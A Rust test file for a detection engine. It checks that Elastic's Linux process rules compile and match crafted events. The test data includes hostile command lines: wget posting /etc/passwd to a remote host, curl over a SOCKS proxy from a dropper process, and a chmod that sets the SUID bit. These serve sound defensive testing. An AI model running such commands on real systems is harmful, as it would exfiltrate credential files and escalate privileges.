//! The real Elastic Linux process rules: every one must compile, and a few, checked by hand, must give
//! the expected verdict on crafted events.

use execwatch::rule::eql::Query;
use serde_json::{json, Value};

const RULES: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../shared/corpus/rules/elastic-linux-process-rules.ndjson"
);

fn rules() -> Vec<(String, String)> {
    let text = std::fs::read_to_string(RULES).unwrap_or_else(|e| panic!("{RULES}: {e}"));
    text.lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| {
            let v: Value = serde_json::from_str(l).expect("rule line is JSON");
            (
                v["name"].as_str().expect("name").to_string(),
                v["query"].as_str().expect("query").to_string(),
            )
        })
        .collect()
}

fn rule(name: &str) -> Query {
    let (_, query) = rules()
        .into_iter()
        .find(|(n, _)| n == name)
        .unwrap_or_else(|| panic!("no rule {name:?}"));
    Query::compile(&query).unwrap_or_else(|e| panic!("{name}: {e}"))
}

/// A Linux process-start event with `process` merged in.
fn exec(process: Value) -> Value {
    json!({
        "host": {"os": {"type": "linux"}},
        "event": {"category": ["process"], "type": ["start"], "action": "exec"},
        "process": process,
    })
}

#[test]
fn all_rules_compile() {
    let rules = rules();
    assert_eq!(rules.len(), 198);
    let mut failures = Vec::new();
    for (name, query) in &rules {
        match Query::compile(query) {
            Ok(q) => {
                assert_eq!(q.category(), Some("process"), "{name}");
                assert!(
                    q.fields().len() > 1,
                    "{name}: fields() should list the fields read"
                );
            }
            Err(e) => failures.push(format!("{name}: {e}")),
        }
    }
    assert!(
        failures.is_empty(),
        "{} rules fail to compile:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

const SEED: &str = r#"process where host.os.type == "linux" and event.type == "start" and event.action == "exec" and (
  (process.name like "python*" and process.args in ("http.server", "SimpleHTTPServer")) or
  (process.name in ("bash", "dash", "sh", "tcsh", "csh", "zsh", "ksh", "fish") and
   process.command_line like~ "*python* -m http.server*"))"#;

#[test]
fn seed_rule() {
    let q = Query::compile(SEED).unwrap();
    let python = |arg: &str| {
        exec(json!({"name": "python3", "args": ["python3", "-m", arg],
                    "command_line": format!("python3 -m {arg}")}))
    };
    assert!(q.matches(&python("http.server")));
    assert!(!q.matches(&python("HTTP.SERVER")), "`in` is case-sensitive");
    let sh = |cl: &str| {
        exec(json!({"name": "sh", "args": ["sh", "-c", cl], "command_line": format!("sh -c {cl}")}))
    };
    assert!(
        q.matches(&sh("PYTHON3 -M HTTP.SERVER")),
        "`like~` folds case"
    );
    assert!(!q.matches(&sh("python3 -m pip")));
    let mut not_exec = python("http.server");
    not_exec["event"]["action"] = json!("fork");
    assert!(!q.matches(&not_exec));
    let mut not_process = python("http.server");
    not_process["event"]["category"] = json!(["network"]);
    assert!(!q.matches(&not_process));
}

#[test]
fn web_server_spawned_via_python_not_on_missing_parent() {
    let q = rule("Web Server Spawned via Python");
    let mut ev =
        exec(json!({"name": "python2.7", "args": ["python2.7", "-m", "SimpleHTTPServer"]}));
    assert!(
        q.matches(&ev),
        "`not parent == x` holds when the parent is missing"
    );
    ev["process"]["parent"] = json!({"executable": "/usr/lib/systemd/systemd"});
    assert!(!q.matches(&ev));
}

#[test]
fn curl_socks_proxy_like_lists() {
    let q = rule("Curl SOCKS Proxy Activity from Unusual Parent");
    let curl = |env: &str| {
        exec(
            json!({"name": "curl", "parent": {"executable": "/tmp/dropper", "name": "dropper"},
                    "args": ["curl", "http://example.com"], "env_vars": [ "HOME=/root", env ]}),
        )
    };
    assert!(
        q.matches(&curl("HTTP_PROXY=SOCKS5H://10.0.0.1:1080")),
        "`like~` list folds case"
    );
    assert!(!q.matches(&curl("HTTP_PROXY=http://10.0.0.1:3128")));
    let mut ev = exec(
        json!({"name": "curl", "parent": {"executable": "/usr/bin/python3", "name": "python3"},
                             "args": ["curl", "--socks5-hostname", "10.0.0.1:1080", "http://example.com"]}),
    );
    assert!(!q.matches(&ev), "parent outside the listed paths");
    ev["process"]["parent"]["name"] = json!(".hidden");
    assert!(
        q.matches(&ev),
        "`like \".*\"` is a literal dot then anything"
    );
    ev["process"]["parent"]["args"] = json!(["/opt/rudder/share/commands/agent-run"]);
    assert!(!q.matches(&ev), "excluded by `not (...)`");
}

#[test]
fn wget_exfiltration_optional_field_and_regex() {
    let q = rule("Potential Data Exfiltration Through Wget");
    let wget = |target: &str| {
        exec(
            json!({"name": "wget", "parent": {"executable": "/bin/bash"},
                    "args": ["wget", "--post-file=/etc/passwd", target],
                    "command_line": format!("wget --post-file=/etc/passwd {target}")}),
        )
    };
    assert!(q.matches(&wget("http://example.com/u")));
    assert!(q.matches(&wget("10.1.2.3")), "regex on an IPv4 address");
    assert!(!q.matches(&wget("example.com")));
    let mut orphan = wget("http://example.com/u");
    orphan["process"].as_object_mut().unwrap().remove("parent");
    assert!(
        !q.matches(&orphan),
        "`?process.parent.executable != null` needs the field"
    );
}

#[test]
fn pid_file_regex_case_insensitive() {
    let q = rule("Process Started from Process ID (PID) File");
    let mut ev = exec(json!({"executable": "/VAR/RUN/Agent_1.PID"}));
    ev["user"] = json!({"id": "0"});
    assert!(q.matches(&ev), "`regex~` folds literal characters");
    ev["process"]["executable"] = json!("/var/run/sub/agent.pid");
    assert!(!q.matches(&ev), "`\\w` does not match `/`");
    ev["process"]["executable"] = json!("/var/run/agent.pid.sh");
    assert!(!q.matches(&ev), "regex is anchored at the end");
    ev["process"]["executable"] = json!("/var/run/agent.lock");
    ev["user"]["id"] = json!("1000");
    assert!(!q.matches(&ev));
}

#[test]
fn suid_bit_set_regex() {
    let q = rule("SUID/SGID Bit Set");
    let chmod = |mode: &str| exec(json!({"name": "chmod", "args": ["chmod", mode, "/tmp/x"]}));
    assert!(q.matches(&chmod("4755")));
    assert!(q.matches(&chmod("U+S")), "`:` is case-insensitive");
    assert!(!q.matches(&chmod("755")));
    assert!(
        !q.matches(&chmod("47555")),
        "regex must match the whole value"
    );
    let mut ev = chmod("4755");
    ev["process"]["parent"] = json!({"executable": "/USR/BIN/FIND"});
    assert!(
        !q.matches(&ev),
        "excluded parent, compared case-insensitively by `:`"
    );
}
